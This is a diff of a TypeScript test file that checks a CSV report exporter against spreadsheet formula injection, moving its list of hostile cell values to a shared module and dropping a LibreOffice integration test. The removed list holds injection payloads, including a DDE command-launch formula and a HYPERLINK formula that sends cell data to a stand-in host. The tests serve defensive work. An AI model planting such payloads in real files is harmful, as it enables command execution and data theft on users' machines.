@@ -1,43 +1,7 @@
-import { execFileSync } from 'node:child_process'
-import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
-import { tmpdir } from 'node:os'
-import { join } from 'node:path'
 import fc from 'fast-check'
 import { csvOf, harmless } from '../../../src/admin/reports/csv.js'
 import { number, text } from '../../../src/admin/reports/table.js'
-
-const hostile = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1,1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '  =1+1',
-  '\u00a0=1+1',
-  '\u200b=1+1',
-  '\ufeff=1+1',
-  '"=1+1',
-  "'=1+1",
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("https://evil.test/?"&A1,"click")',
-  'fine;=1+1',
-  'fine,=1+1',
-  'fine\t=1+1',
-  'fine\n=1+1',
-  'fine\r\n=1+1',
-  'fine;" =1+1',
-  'fine|+1',
-  ';=1+1',
-  '";=1+1',
-  'fine"\n"=1+1',
-  '\0=1+1',
-]
+import { hostileCells } from '../../support/hostile-cells.js'
 
 const columns = [text('a', 'A'), text('b', 'B'), number('c', 'C')]
 
@@ -90,7 +54,7 @@ describe('A report as a file for spreadsheets', () => {
     expect(file(['x'])).toBe('\ufeff"a","b","c"\r\n"x","x","0"\r\n')
   })
 
-  test.each(hostile)('has no formula in any cell for %j', (value) => {
+  test.each(hostileCells)('has no formula in any cell for %j', (value) => {
     for (const separator of [',', ';', '\t', '|'])
       for (const row of parse(file([value]), separator))
         for (const cell of row) expect(cell).not.toMatch(formula)
@@ -136,45 +100,6 @@ describe('A report as a file for spreadsheets', () => {
     expect(csv).toContain('"Only the first 1 rows stand here.","",""\r\n')
     expect(csvOf({ columns, rows: [{ cells: { a: 'x' } }] })).not.toContain('Only the first')
   })
-
-  const office = '/usr/bin/soffice'
-  const withOffice = existsSync(office) ? test : test.skip
-  withOffice(
-    'is plain text to LibreOffice: nothing in it is calculated',
-    () => {
-      const folder = mkdtempSync(join(tmpdir(), 'csv-'))
-      try {
-        const values = hostile.filter((value) => !value.includes('\0'))
-        writeFileSync(join(folder, 'report.csv'), file(values))
-        writeFileSync(join(folder, 'twin.csv'), '"=1+1","x"\r\n')
-        const run = (name: string, options: string) =>
-          execFileSync(
-            office,
-            [
-              `-env:UserInstallation=file://${folder}/profile`,
-              '--headless',
-              `--infilter=CSV:${options}`,
-              '--convert-to',
-              'fods',
-              '--outdir',
-              folder,
-              join(folder, name),
-            ],
-            { stdio: 'pipe' },
-          )
-        // Comma or semicolon; UTF-8; every cell standard; formulas are evaluated where there are any
-        for (const separator of ['44', '59']) {
-          run('report.csv', `${separator},34,76,1,,0,false,true,false,false,false,-1,true`)
-          expect(readFileSync(join(folder, 'report.fods'), 'utf8')).not.toContain('table:formula=')
-        }
-        run('twin.csv', '44,34,76,1,,0,false,true,false,false,false,-1,true')
-        expect(readFileSync(join(folder, 'twin.fods'), 'utf8')).toContain('table:formula=')
-      } finally {
-        rmSync(folder, { recursive: true, force: true })
-      }
-    },
-    120_000,
-  )
 })
 
 /** As it is meant, whatever it costs: an apostrophe behind each end of a cell behind which a formula begins. */
